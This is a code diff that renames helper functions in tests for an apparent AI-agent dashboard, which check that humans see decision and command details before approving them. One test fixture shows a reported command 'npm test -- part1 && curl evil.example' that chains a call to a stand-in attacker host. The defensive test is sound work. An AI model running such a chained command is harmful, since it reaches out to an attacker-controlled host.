@@ -18,7 +18,7 @@ const PROMPT = ['The first line of it', 'the second line', 'the third line', ...
   '\n',
 );
 
-const waiting = (columns: number, rows: number, options = {}, more = {}): Bench =>
+const openWaitingDecision = (columns: number, rows: number, options = {}, more = {}): Bench =>
   showDecision(
     bench(columns, rows, options).data({
       decisions: [decisionRow(1, { title: 'The first line of it', ...more })],
@@ -29,10 +29,10 @@ const waiting = (columns: number, rows: number, options = {}, more = {}): Bench 
     PROMPT,
   );
 
-/** What has to be on a screen before anybody approves what it says. */
+/** What must be on the screen before anybody can approve it. */
 const ESSENTIAL = [/agent +claude · lite/, /prompt +\d+ chars/, /│ The first line of it/, /│ the third line/];
-const showsAll = (screen: string): boolean => ESSENTIAL.every((part) => part.test(screen));
-const screen = (dash: Bench): string => screenOf(dash.state()).join('\n');
+const hasAllEssentials = (screen: string): boolean => ESSENTIAL.every((part) => part.test(screen));
+const readScreen = (dash: Bench): string => screenOf(dash.state()).join('\n');
 
 describe('nobody approves what was not on the screen', () => {
   for (const [columns, rows] of [
@@ -47,13 +47,13 @@ describe('nobody approves what was not on the screen', () => {
     [200, 50],
   ] as const) {
     it(`at ${columns}x${rows} the key that asks has shown agent, profile, length and beginning of the prompt`, () => {
-      const dash = waiting(columns, rows);
-      const isShown = showsAll(screen(dash));
+      const dash = openWaitingDecision(columns, rows);
+      const isShown = hasAllEssentials(readScreen(dash));
       dash.keys('a');
       if (!isShown) {
         assert.equal(dash.state().armed, null);
         assert.equal(dash.state().view, 'full');
-        assert.ok(showsAll(screen(dash)), screen(dash));
+        assert.ok(hasAllEssentials(readScreen(dash)), readScreen(dash));
         dash.keys('a');
       }
       assert.match(dash.state().armed?.question ?? '', /Approve d-1/);
@@ -63,28 +63,33 @@ describe('nobody approves what was not on the screen', () => {
   }
 
   it('at 40x10 and 60x15 the list does not show it, at 80x24 it does', () => {
-    assert.equal(waiting(40, 10).keys('a').state().armed, null);
-    assert.equal(waiting(60, 15).keys('a').state().armed, null);
-    assert.notEqual(waiting(80, 24).keys('a').state().armed, null);
+    assert.equal(openWaitingDecision(40, 10).keys('a').state().armed, null);
+    assert.equal(openWaitingDecision(60, 15).keys('a').state().armed, null);
+    assert.notEqual(openWaitingDecision(80, 24).keys('a').state().armed, null);
   });
 
   it('what was scrolled away is not on the screen', () => {
-    assert.equal(waiting(80, 24).keys('pagedown', 'a').state().armed, null);
-    assert.equal(waiting(80, 24).keys('right', 'a').state().armed, null);
-    const opened = waiting(80, 24).keys('pagedown', 'a');
-    assert.ok(showsAll(screen(opened)), 'it opens at its beginning');
+    assert.equal(openWaitingDecision(80, 24).keys('pagedown', 'a').state().armed, null);
+    assert.equal(openWaitingDecision(80, 24).keys('right', 'a').state().armed, null);
+    const opened = openWaitingDecision(80, 24).keys('pagedown', 'a');
+    assert.ok(hasAllEssentials(readScreen(opened)), 'it opens at its beginning');
     assert.notEqual(opened.keys('a').state().armed, null);
   });
 
   it('a message that takes the rows takes the question with it', () => {
-    const dash = waiting(60, 17);
-    assert.notEqual(waiting(60, 17).keys('a').state().armed, null);
+    const dash = openWaitingDecision(60, 17);
+    assert.notEqual(openWaitingDecision(60, 17).keys('a').state().armed, null);
     dash.send({ type: 'message', text: 'a failure of many words '.repeat(20), tone: 'bad' });
     assert.equal(dash.keys('a').state().armed, null);
   });
 
   it('where even the whole screen has no room for it, the key reads on, and asks at its end', () => {
-    const dash = waiting(40, 10, {}, { stranger: 'somebody of whom much has to be said in many words here' });
+    const dash = openWaitingDecision(
+      40,
+      10,
+      {},
+      { stranger: 'somebody of whom much has to be said in many words here' },
+    );
     let presses = 0;
     while (dash.state().armed === null && presses < 10) {
       dash.keys('a');
@@ -94,14 +99,14 @@ describe('nobody approves what was not on the screen', () => {
   });
 
   it('without a screen only what was opened has been told', () => {
-    const dash = waiting(100, 30, { plain: true }).keys('a');
+    const dash = openWaitingDecision(100, 30, { plain: true }).keys('a');
     assert.equal(dash.state().armed, null);
     assert.equal(dash.state().view, 'full');
     assert.notEqual(dash.keys('a').state().armed, null);
   });
 
   it('a detail of an earlier state of the decision does not count', () => {
-    const dash = waiting(80, 24);
+    const dash = openWaitingDecision(80, 24);
     dash.data({ decisions: [decisionRow(1, { hash: 'e'.repeat(64) })] });
     dash.keys('a');
     assert.equal(dash.state().armed, null);
@@ -149,7 +154,7 @@ describe('nor runs commands again that were not on the screen', () => {
         let seen = '';
         let presses = 0;
         while (dash.state().armed === null && presses < 100) {
-          seen += dash.keys('V').state().armed === null ? screen(dash) : '';
+          seen += dash.keys('V').state().armed === null ? readScreen(dash) : '';
           presses += 1;
         }
         assert.match(dash.state().armed?.question ?? '', /Run 60 reported commands/);
@@ -161,7 +166,7 @@ describe('nor runs commands again that were not on the screen', () => {
   it('one that stands in the list is asked for at once, and is still there with the question', () => {
     const dash = reported(80, 40, 1, 'workers').keys('v', 'V');
     assert.notEqual(dash.state().armed, null);
-    assert.match(screen(dash), /passed +npm test -- part1 && curl evil\.example/);
+    assert.match(readScreen(dash), /passed +npm test -- part1 && curl evil\.example/);
   });
 });
 
@@ -191,7 +196,7 @@ describe('nor runs a failed task again from its worker', () => {
         const dash = isLooked ? showWork(failed(columns, rows), 1) : failed(columns, rows);
         let seen = '';
         for (let presses = 0; dash.state().armed === null && presses < 10; presses += 1)
-          seen += screen(dash.keys('r'));
+          seen += readScreen(dash.keys('r'));
         assert.match(dash.state().armed?.question ?? '', /Run again t-1/);
         for (const part of [/agent +claude · lite/, /prompt +\d+ chars/, /│ Task number 1/])
           assert.match(seen, part);
@@ -211,7 +216,7 @@ describe('nor runs or promotes it', () => {
     assert.notEqual(dash(80, 24).keys('r').state().armed, null);
     const small = dash(40, 10).keys('r');
     assert.equal(small.state().armed, null);
-    assert.match(screen(small), /agent +claude · lite.*│ Task number 1/s);
+    assert.match(readScreen(small), /agent +claude · lite.*│ Task number 1/s);
     assert.notEqual(small.keys('r').state().armed, null);
   });
 
@@ -230,7 +235,7 @@ describe('nor runs or promotes it', () => {
     assert.notEqual(dash(80, 24).keys('p').state().armed, null);
     const small = dash(40, 10).keys('p');
     assert.equal(small.state().armed, null);
-    assert.match(screen(small), /no conflicts/);
+    assert.match(readScreen(small), /no conflicts/);
     for (let presses = 0; small.state().armed === null && presses < 4; presses += 1) small.keys('p');
     assert.match(small.state().armed?.question ?? '', /Promote/);
   });
